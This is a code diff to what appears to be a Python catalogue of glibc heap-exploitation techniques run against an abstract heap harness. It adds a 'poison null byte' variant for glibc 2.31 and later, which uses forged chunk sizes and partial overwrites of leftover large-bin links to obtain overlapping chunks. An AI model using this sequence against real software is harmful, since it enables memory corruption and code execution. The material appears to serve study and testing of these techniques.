@@ -97,6 +97,32 @@ def poison_null_byte(h):
     return prev < merged < prev + 0x500
 
 
+def poison_null_byte_with_what_was_left(h):
+    """The same as it is published for 2.31 and later: the links of the forged chunk are not
+    written, they lie in the block since it was in a large bin; only their low bytes are."""
+
+    def low_bytes(at):
+        h.put(at, h.get(at) & ~0xFFFF | 0x10)
+
+    pad = h.malloc(1)
+    h.malloc(0x10000 - (pad & 0xFFFF) - 0x20)
+    prev, victim = h.malloc(0x500), h.malloc(0x4F0)
+    h.malloc(0x10)
+    a, _, b, _ = (h.malloc(n) for n in (0x4F0, 0x10, 0x510, 0x10))
+    free_all(h, (a, b, prev))
+    h.malloc(0x1000)  # all three go to large bins
+    h.malloc(0x500)
+    h.put(prev + 8, 0x501)
+    h.put(prev + 0x500, 0x500)
+    low_bytes(h.malloc(0x510))
+    free_all(h, (h.malloc(0x4F0), victim))
+    low_bytes(h.malloc(0x4F0) + 8)
+    victim = h.malloc(0x4F0)
+    h.put(victim - 8, h.get(victim - 8) & ~0xFF)
+    h.free(victim)
+    return h.malloc(0x100) == prev + 0x10
+
+
 def house_of_lore(h):
     """A small bin's list is led into the area."""
     victim = h.malloc(0x100)
@@ -316,9 +342,10 @@ def tcache_dup_after_key(h):
 
 TECHNIQUES = [
     fastbin_dup, fastbin_dup_into_stack, fastbin_dup_consolidate, unsafe_unlink, house_of_spirit,
-    tcache_house_of_spirit, poison_null_byte, house_of_lore, overlapping_chunks,
-    mmap_overlapping_chunks, mapped_header_put_back, house_of_einherjar, tcache_poisoning,
-    house_of_botcake, tcache_stashing_unlink, large_bin_attack, fastbin_reverse_into_tcache,
-    decrypt_safe_linking, unsorted_bin_leak, unsorted_bin_attack, house_of_force,
-    sysmalloc_int_free, house_of_tangerine, house_of_water, house_of_mind, tcache_dup_after_key,
+    tcache_house_of_spirit, poison_null_byte, poison_null_byte_with_what_was_left, house_of_lore,
+    overlapping_chunks, mmap_overlapping_chunks, mapped_header_put_back, house_of_einherjar,
+    tcache_poisoning, house_of_botcake, tcache_stashing_unlink, large_bin_attack,
+    fastbin_reverse_into_tcache, decrypt_safe_linking, unsorted_bin_leak, unsorted_bin_attack,
+    house_of_force, sysmalloc_int_free, house_of_tangerine, house_of_water, house_of_mind,
+    tcache_dup_after_key,
 ]  # fmt: skip
